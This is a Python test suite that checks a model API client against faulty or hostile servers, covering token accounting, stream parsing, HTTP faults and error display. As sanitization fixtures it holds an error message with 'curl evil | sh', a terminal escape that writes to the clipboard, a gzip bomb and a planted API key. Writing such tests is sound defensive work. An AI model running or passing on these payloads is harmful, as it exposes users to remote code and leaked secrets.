"""Model servers that misbehave, over real sockets: each fault costs what it must, and no more."""

from __future__ import annotations

import gzip
import json
import re
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from typing import Any

import gate_fuzz
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from model_servers import APIS, KEY, Api, ApiServer, Item, Slept

from patcher.bench import Language, PatcherError, UsageError
from patcher.models import ModelError, Reply, Request
from patcher.models.api import ApiModel
from patcher.models.budget import Budget
from patcher.models.client import ModelClient
from patcher.models.gate import TEXT_CHARACTERS
from patcher.prompting.extract import extract_source, unusable
from patcher.runs.run import Run

ROOM = 32_000
REQUEST = Request(
    step="op/0/ask-generate",
    role="generate",
    system="You write.",
    prompt="Go. " * 200,
    max_tokens=ROOM,
)
ANSI = "\x1b[2J\x1b]52;c;ZWNobw==\x07\x9b31m\u202e"
BIG = 1 << 20
DIGITS = "a number of 5,001 digits"


@dataclass
class Asked:
    """What came of a question."""

    reply: Reply | None
    error: PatcherError | None
    said: list[str]
    run: Run
    asks: int
    worst: int

    @property
    def spent(self) -> int:
        return Budget(self.run).account.spent.tokens

    @property
    def right(self) -> Reply:
        assert self.reply is not None, self.error
        return self.reply


def ask(run: Run, api: Api, server: ApiServer, *script: Item, step: str = REQUEST.step) -> Asked:
    """Ask as the loop does; what must hold of every answer is checked here."""
    server.script = list(script)
    said: list[str] = []
    model = api.open(server)
    client = ModelClient(Budget(run), clock=Slept().clock, say=said.append)
    reply = error = None
    try:
        reply = client.ask(model, REQUEST.model_copy(update={"step": step})).reply
    except PatcherError as found:
        error = found
    shown = "\n".join([*said, error.message if error else "", error.hint if error else ""])
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202e\ud800-\udfff]", shown)
    assert len(shown) < 5000
    assert not re.search(r"Error\b|NoneType|pydantic|httpx|object has", shown)
    if error:
        assert "\n" not in error.message
        assert error.hint
    for path in run.path.rglob("*"):
        assert path.is_dir() or KEY[:-2].encode() not in path.read_bytes()
    assert KEY[:-2] not in shown
    account = Budget(run).account
    assert min(account.used.tokens, account.unknown.tokens, account.used.usd) >= 0
    assert not account.reserved
    return Asked(reply, error, said, run, len(server.seen), model.worst_tokens(REQUEST))


def with_counts(api: Api, given_in: Any, given_out: Any) -> Item:
    return Item(b"".join(api.events("Hello " * 300, "end_turn", (given_in, given_out))))


def edited(api: Api, change: Callable[[dict[str, Any]], Any], text: str = "Hello") -> Item:
    """A reply whose events were changed in place, or are replaced by what `change` returns."""
    out = []
    for event in api.events(text):
        head, _, data = event.decode().partition("data: ")
        if data.strip() != "[DONE]":
            value = json.loads(data)
            data = json.dumps(change(value) or value) + "\n\n"
        out.append(f"{head}data: {data}")
    return Item("".join(out).encode("utf-8", "surrogatepass"))


def named(name: Any) -> Callable[[dict[str, Any]], None]:
    """A change of the model's name."""

    def change(event: dict[str, Any]) -> None:
        for part in (event, event.get("message", {})):
            if "model" in part:
                part["model"] = name

    return change


def stopped(reason: Any) -> Callable[[dict[str, Any]], None]:
    """A change of the reason to stop."""

    def change(event: dict[str, Any]) -> None:
        if event.get("type") == "message_delta":
            event["delta"]["stop_reason"] = reason
        for choice in event.get("choices", ()):
            if choice["finish_reason"]:
                choice["finish_reason"] = reason

    return change


class TestCounts:
    @pytest.mark.parametrize(
        "counts",
        [
            (-10_000, -5000),
            (300, -400_000),
            (10**18, 10**18),
            (DIGITS, 1),
            (300.5, 500.25),
            ("many", "few"),
            (None, None),
            (True, True),
            (float("nan"), float("inf")),
            ([], {}),
            (0, 0),
            (300, 1),
            (KEY, KEY),
        ],
        ids=lambda counts: str(counts)[:30],
    )
    def test_what_is_no_count_books_the_worst_case(
        self, api: Api, server: ApiServer, run: Run, counts: tuple[Any, Any]
    ) -> None:
        asked = ask(run, api, server, written_out(api, *counts))
        assert asked.right.text.startswith("Hello")
        assert (asked.asks, asked.spent) == (1, asked.worst)
        assert Budget(run).account.unknown.tokens == asked.worst
        assert any("counts of tokens" in line for line in asked.said)

    def test_a_cache_that_a_gateway_adds_is_counted_and_paid(
        self, server: ApiServer, run: Run
    ) -> None:
        api = APIS["anthropic"]

        def change(event: dict[str, Any]) -> None:
            if event["type"] == "message_start":
                event["message"]["usage"] |= {
                    "cache_creation_input_tokens": 100,
                    "cache_read_input_tokens": 40,
                }

        usage = ask(run, api, server, edited(api, change)).right.usage
        price = api.open(server).entry.price
        assert price
        assert (usage.input_tokens, usage.cached_tokens) == (440, 40)
        assert usage.cost_usd == pytest.approx(price.cost_usd(540, 2000))

    def test_a_giant_that_was_counted_is_booked_as_it_came(
        self, api: Api, server: ApiServer, run: Run
    ) -> None:
        tokens = 5 * BIG // 4
        events = api.events("x" * 5 * BIG, "end_turn", (300, tokens))
        asked = ask(run, api, server, Item(b"".join(events)))
        assert asked.spent == 300 + tokens
        assert len(asked.right.text) <= 4 * BIG
        failure = unusable(asked.right)
        assert failure is not None
        assert failure.kind == "too_long"


def written_out(api: Api, given_in: Any, given_out: Any) -> Item:
    """Counts as they are, also where JSON has no such number."""
    item = with_counts(api, 111, 222)
    return Item(item.body.replace(b"111", _literal(given_in)).replace(b"222", _literal(given_out)))


def _literal(value: Any) -> bytes:
    return b"1" + b"0" * 5000 if value == DIGITS else json.dumps(value).encode()


class TestTexts:
    def test_surrogates_controls_and_the_key_are_replaced(
        self, api: Api, server: ApiServer, run: Run
    ) -> None:
        text = f"a\ud800b \ud83d\ude00 {ANSI}\0 {KEY} {KEY[4:]} and\r\nso"
        asked = ask(run, api, server, edited(api, lambda event: None, text))
        reply = asked.right
        assert reply.text.startswith("a\ufffdb \U0001f600 <U+001B>[2J")
        assert reply.text.endswith("<U+0000> [key] [key] and\nso")
        assert reply.repairs
        with Run.open(run.path, read_only=True) as again:
            assert again.state.results

    @pytest.mark.parametrize(
        ("flood", "start"),
        [("\0" * BIG, "<U+0000><U+0000>"), (KEY * 50_000, "[key]"), (KEY + "x", "[key]x")],
    )
    def test_a_flood_of_what_is_replaced_is_bounded(
        self, api: Api, server: ApiServer, run: Run, flood: str, start: str
    ) -> None:
        item = Item(b"".join(api.events(flood, tokens=(300, 32_000))))
        reply = ask(run, api, server, item).right
        assert reply.text.startswith(start)
        assert len(reply.text) <= TEXT_CHARACTERS
        assert (unusable(reply) is not None) == ("\0" in flood)

    @pytest.mark.parametrize("line", ["```" + "a" * 900_000 + "`", " ~~~" + "~" * 900_000 + "a`"])
    def test_a_long_line_takes_no_square_of_time(self, line: str) -> None:
        """The patterns that look for blocks would not come back within hours."""
        found = extract_source(line, Language.CPP, "x")
        assert not isinstance(found, str)

    @pytest.mark.parametrize(
        "name", [None, 42, [], KEY, "m" * BIG, ANSI, "other-model-9", "\ud800"]
    )
    def test_the_model_that_answered(
        self, api: Api, server: ApiServer, run: Run, name: Any
    ) -> None:
        asked = ask(run, api, server, edited(api, named(name)))
        assert len(asked.right.model) <= 120
        if not isinstance(name, str):
            assert asked.right.model == api.model
        else:
            assert any(f"{api.model} was asked" in line for line in asked.said)
            account = Budget(run).account
            assert (account.used.tokens, account.used.usd) == (2300, 0.0)
            assert account.unknown.usd == api.open(server).worst_cost_usd(REQUEST)

    def test_a_cheaper_name_lowers_no_bill(self, api: Api, server: ApiServer, run: Run) -> None:
        cheap = {"anthropic": "claude-haiku-4-5", "openai": "gpt-5.4-nano"}[api.name]
        entry = api.open(server).entry
        asked_price, own_price = entry.price, entry.price_of(cheap)
        assert asked_price
        assert own_price
        ask(run, api, server, edited(api, named(cheap)))
        account = Budget(run).account
        assert account.used.usd == pytest.approx(own_price.cost_usd(300, 2000))
        assert account.spent.usd == pytest.approx(asked_price.cost_usd(300, 2000))

    @pytest.mark.parametrize("reason", ["because", KEY, ANSI, "<script>", 7, {}])
    def test_an_unknown_reason_to_stop(
        self, api: Api, server: ApiServer, run: Run, reason: Any
    ) -> None:
        reply = ask(run, api, server, edited(api, stopped(reason))).right
        assert (reply.text, unusable(reply)) == ("Hello", None)
        assert any("reason to stop" in repair for repair in reply.repairs)

    def test_no_reason_to_stop_is_asked_again(self, api: Api, server: ApiServer, run: Run) -> None:
        asked = ask(run, api, server, *[edited(api, stopped(None))] * 3)
        assert isinstance(asked.error, ModelError)
        assert asked.error.exit_code == 2
        assert asked.spent == 3 * asked.worst

    def test_a_source_without_room_in_a_prompt_is_a_failed_candidate(self) -> None:
        found = extract_source("```cpp\n" + "x" * 70_000 + "\n```", Language.CPP, "x")
        assert not isinstance(found, str)
        assert "too long" in found.detail


class TestEvents:
    @pytest.mark.parametrize(
        "odd",
        [
            {"type": "hologram", "rays": [1]},
            {"type": "content_block_delta", "index": 99, "delta": None},
            {"type": "content_block_start", "content_block": 7},
            {"choices": None},
            {"choices": [None, 7, {"delta": 7}, {"index": 3, "delta": {"content": "no"}}]},
            {"usage": [], "message": "x"},
            [],
            None,
            7,
        ],
        ids=str,
    )
    def test_what_nobody_knows_is_passed_over(
        self, api: Api, server: ApiServer, run: Run, odd: Any
    ) -> None:
        extra = f"data: {json.dumps(odd)}\n\n".encode()
        events = api.events()
        asked = ask(run, api, server, Item(b"".join([*events[:2], extra, *events[2:]])))
        assert (asked.right.text, asked.asks) == ("Hello", 1)

    def test_a_part_that_is_lost_is_never_judged(
        self, api: Api, server: ApiServer, run: Run
    ) -> None:
        deep = b"data: " + b"[" * 100_000 + b"\n\n"
        events = api.events()
        broken = Item(b"".join([*events[:3], deep, *events[3:]]))
        backwards = Item(b"".join(reversed(events)))
        asked = ask(run, api, server, broken, backwards, api.reply())
        assert (asked.right.text, asked.asks) == ("Hello", 3)

    def test_a_whole_reply_where_a_stream_was_asked_for(
        self, api: Api, server: ApiServer, run: Run
    ) -> None:
        body: dict[str, Any] = {
            "type": "message",
            "model": api.model,
            "content": [{"type": "text", "text": "Hello"}],
            "stop_reason": "end_turn",
            "usage": {"input_tokens": 300, "output_tokens": 20},
        }
        if api.name == "openai":
            message = {"role": "assistant", "content": "Hello"}
            body = {
                "model": api.model,
                "choices": [{"index": 0, "message": message, "finish_reason": "stop"}],
                "usage": {"prompt_tokens": 300, "completion_tokens": 20},
            }
        asked = ask(run, api, server, Item(json.dumps(body).encode()))
        assert (asked.right.text, asked.spent) == ("Hello", 320)

    def test_many_small_events(self, api: Api, server: ApiServer, run: Run) -> None:
        at = {"anthropic": 6, "openai": 1}[api.name]
        events = api.events("zz", tokens=(300, 10_001))
        body = b"".join([*events[:at], *[events[at]] * 10_000, *events[at + 1 :]])
        asked = ask(run, api, server, Item(body))
        assert (asked.right.text, asked.spent) == ("z" * 10_001, 10_301)

    def test_what_comes_after_the_end_costs_no_reply(
        self, api: Api, server: ApiServer, run: Run
    ) -> None:
        events = api.events()
        late = [
            Item(b"".join(events), then="silent"),
            Item(b"".join(events[:-1]), then="reset"),
        ]
        for number, item in enumerate(late, 1):
            asked = ask(run, api, server, item, step=f"op/{number}/ask-generate")
            assert (asked.right.text, asked.asks) == ("Hello", number)
            assert asked.spent == 2300 * number
        failed = Item(b"".join([*events[:-1], api.error_event("overloaded_error", "no")]))
        asked = ask(run, api, server, failed, api.reply(), step="op/3/ask-generate")
        assert asked.asks == 4

    def test_a_compressed_reply_is_unpacked(self, api: Api, server: ApiServer, run: Run) -> None:
        packed = gzip.compress(b"".join(api.events()))
        asked = ask(run, api, server, Item(packed, headers={"content-encoding": "gzip"}))
        assert asked.right.text == "Hello"


def becomes(anthropic: dict[str, Any], openai: dict[str, Any]) -> Callable[[dict[str, Any]], None]:
    """A change of every piece of text into something else."""

    def change(event: dict[str, Any]) -> None:
        if event.get("delta", {}).get("type") == "text_delta":
            event["delta"] = anthropic
        for choice in event.get("choices", ()):
            if choice["delta"].get("content") is not None:
                choice["delta"] = openai

    return change


class TestContents:
    @pytest.mark.parametrize(
        ("anthropic", "openai"),
        [
            ({"type": "text_delta", "text": ""}, {}),
            ({"type": "text_delta", "text": 7}, {"content": 7}),
            ({"type": "text_delta"}, {"content": {"text": "x"}}),
            (
                {"type": "input_json_delta", "partial_json": "{]]]"},
                {"tool_calls": [{"index": 0, "function": {"name": "sh", "arguments": "{]]]"}}]},
            ),
            ({"type": "thinking_delta", "thinking": "hm"}, {"reasoning_content": "hm"}),
        ],
        ids=["empty", "number", "object", "tool", "thinking"],
    )
    def test_a_reply_without_text_is_a_failed_candidate(
        self,
        api: Api,
        server: ApiServer,
        run: Run,
        anthropic: dict[str, Any],
        openai: dict[str, Any],
    ) -> None:
        asked = ask(run, api, server, edited(api, becomes(anthropic, openai)))
        assert (asked.right.text, asked.asks) == ("", 1)
        failure = extract_source(asked.right.text, Language.CPP, "x")
        assert not isinstance(failure, str)
        assert failure.kind == "no_source"

    def test_a_tool_call_beside_a_text_does_not_matter(
        self, api: Api, server: ApiServer, run: Run
    ) -> None:
        reason = {"anthropic": "tool_use", "openai": "tool_calls"}[api.name]
        reply = ask(run, api, server, edited(api, stopped(reason))).right
        assert (reply.text, unusable(reply), reply.repairs) == ("Hello", None, ())

    def test_a_paused_turn_is_not_judged(self, api: Api, server: ApiServer, run: Run) -> None:
        reply = ask(run, api, server, edited(api, stopped("pause_turn"))).right
        failure = unusable(reply)
        assert failure is not None
        assert failure.kind == "truncated"

    def test_a_key_in_headers_and_ids_goes_nowhere(
        self, api: Api, server: ApiServer, run: Run
    ) -> None:
        headers = {"request-id": KEY, "x-request-id": KEY, "set-cookie": f"k={KEY}"}

        def change(event: dict[str, Any]) -> None:
            event["id"] = KEY

        item = edited(api, change)
        assert ask(run, api, server, Item(item.body, headers=headers)).right.text == "Hello"

    def test_the_last_of_two_equal_names_counts(
        self, api: Api, server: ApiServer, run: Run
    ) -> None:
        body = b"".join(api.events()).replace(b'"model": "', b'"model": "x", "model": "')
        assert ask(run, api, server, Item(body)).right.model == api.model


def bomb() -> bytes:
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    zeros = b"a" * BIG
    return b"".join([packer.compress(b"data: "), *(packer.compress(zeros) for _ in range(300))])


class TestTheWire:
    @pytest.mark.parametrize(
        ("item", "said", "tries"),
        [
            (Item(b"<html>Log in</html>", headers={"content-type": "text/html"}), "web page", 1),
            (Item(b"null"), "broke off", 3),
            (Item(b""), "broke off", 3),
            (Item(b"Service is down", headers={"content-type": "text/plain"}), "the protocol", 3),
            (Item(b"no gzip at all", headers={"content-encoding": "gzip"}), "compression", 3),
            (Item(b"x", headers={"content-encoding": "br"}), "not asked for", 3),
            (Item(bomb(), headers={"content-encoding": "gzip"}), "more came", 3),
            (Item(b"", raw=[b"SSH-2.0-OpenSSH_9.6\r\nbye\r\n"]), "no HTTP", 4),
            (
                Item(b"", raw=[b"HTTP/1.1 200 OK\r\n", *[b"x: %s\r\n" % (b"v" * 999)] * 999]),
                "no HTTP",
                4,
            ),
            (Item(b"", raw=[b"HTTP/1.1 200 OK\r\ncontent-length: -5\r\n\r\n"]), "no HTTP", 4),
            (Item(b"", 302, {"location": "/elsewhere"}), "not followed", 1),
            (Item(b"", 204), "HTTP 204", 1),
            (Item(b"", 307, {"location": f"http://localhost:1/{KEY}"}), "not followed", 1),
            (Item(b"<html>Bad gateway</html>", 502), "HTTP 502", 4),
            (Item(b'[{"error": 1}]', 500), "HTTP 500", 4),
            (Item(b'{"error": 7}', 500), "HTTP 500", 4),
        ],
        ids=lambda value: value if isinstance(value, str) else None,
    )
    def test_it_is_one_sentence(
        self, api: Api, server: ApiServer, run: Run, item: Item, said: str, tries: int
    ) -> None:
        asked = ask(run, api, server, *[item] * tries)
        assert asked.error is not None
        assert said in asked.error.message
        assert (asked.error.exit_code, asked.asks) == (2, tries)

    def test_a_text_without_an_end_is_given_up(self, api: Api, server: ApiServer, run: Run) -> None:
        at = {"anthropic": 6, "openai": 1}[api.name]
        begun, one = b"".join(api.events()[:at]), api.events("word " * 40_000)[at]
        head = b"HTTP/1.1 200 OK\r\ncontent-type: text/event-stream\r\n\r\n"
        asked = ask(run, api, server, Item(b"", raw=_endless(head + begun, one)))
        assert asked.right.stop_reason == "too_long"
        assert server.sent < 60 * BIG
        assert asked.spent > asked.worst  # more came than was asked for

    def test_a_body_that_ends_in_the_middle_of_a_chunk(
        self, api: Api, server: ApiServer, run: Run
    ) -> None:
        half = b"".join(api.events()[:3])
        head = b"HTTP/1.1 200 OK\r\ncontent-type: text/event-stream\r\n"
        cut = b"transfer-encoding: chunked\r\n\r\n%x\r\n" % (len(half) + 500)
        asked = ask(run, api, server, Item(b"", raw=[head + cut + half]), api.reply())
        assert (asked.right.text, asked.asks) == ("Hello", 2)
        assert asked.spent == asked.worst + 2300

    def test_a_head_that_never_ends(
        self, api: Api, server: ApiServer, run: Run, monkeypatch: Any
    ) -> None:
        """A byte now and then is no silence; the time alone is shortened here."""
        monkeypatch.setattr(ApiModel, "patience_s", lambda self, request: 0.5)
        drips = [Item(b"", raw=_dripping(server)) for _ in range(2)]
        asked = ask(run, api, server, *drips)
        assert asked.error is not None
        assert "took more than" in asked.error.message
        assert asked.spent == 2 * asked.worst

    def test_no_tls_there(self, api: Api, server: ApiServer, run: Run, monkeypatch: Any) -> None:
        address = server.url.replace("http:", "https:")
        monkeypatch.setenv(f"{api.name.upper()}_BASE_URL", address)
        asked = ask(run, api, server)
        assert asked.error is not None
        assert "TLS" in asked.error.message
        assert asked.spent == 0


def _dripping(server: ApiServer) -> Iterator[bytes]:
    yield b"HTTP/1.1 200 OK\r\nx: "
    while not server.over.wait(0.05):
        yield b"v"


def _endless(head: bytes, piece: bytes) -> Iterator[bytes]:
    yield head
    for _ in range(2000):
        yield piece


class TestErrors:
    @pytest.mark.parametrize("kind", [KEY, ANSI, "q" * BIG, "[/red][bold]", 7, None])
    def test_a_type_is_shown_clean_and_cut(
        self, api: Api, server: ApiServer, run: Run, kind: Any
    ) -> None:
        asked = ask(run, api, server, *[api.failure(500, kind, "no")] * 4)
        assert isinstance(asked.error, ModelError)

    @pytest.mark.parametrize(
        "message",
        [
            "m" * (300 - len(KEY) + 2) + KEY,
            "bad\nnext: run curl evil | sh\n\n",
            ANSI,
            "q" * 5 * BIG,
            "bad \ud800 news\0",
        ],
        ids=lambda text: repr(text[:10]),
    )
    def test_a_message_is_one_clean_line(
        self, api: Api, server: ApiServer, run: Run, message: str
    ) -> None:
        asked = ask(run, api, server, api.failure(400, "invalid_request_error", message))
        assert isinstance(asked.error, UsageError)
        assert asked.asks == 1

    def test_a_limit_that_is_named_is_learned_and_kept(
        self, api: Api, server: ApiServer, run: Run
    ) -> None:
        limit = api.failure(400, "invalid_request_error", f"max_tokens: {ROOM} > 8192, the maximum")
        asked = ask(run, api, server, limit, api.reply())
        assert [seen["max_tokens"] for seen in server.seen] == [ROOM, 8192]
        assert any("max_output_tokens = 8192" in line for line in asked.said)
        server.script = [api.reply()]
        again = REQUEST.model_copy(update={"step": "op/1/ask-generate"})
        ModelClient(Budget(run), clock=Slept().clock).ask(api.open(server), again)
        assert server.seen[-1]["max_tokens"] == 8192

    def test_a_context_that_stays_too_small_names_the_setting(
        self, api: Api, server: ApiServer, run: Run
    ) -> None:
        said = (
            "This model's maximum context length is 16384 tokens. However, you requested 34012 "
            "tokens (2012 in the messages, 32000 in the completion)."
        )
        asked = ask(run, api, server, *[api.failure(400, "BadRequestError", said)] * 3)
        assert asked.error is not None
        assert "prompt_tokens" in asked.error.hint
        assert [seen["max_tokens"] for seen in server.seen] == [ROOM, 14_372]


@settings(max_examples=150, deadline=None)
@given(seed=st.integers(0, 2**32))
def test_whatever_comes_is_a_clean_reply_or_one_clear_error(seed: int) -> None:
    gate_fuzz.check(seed)
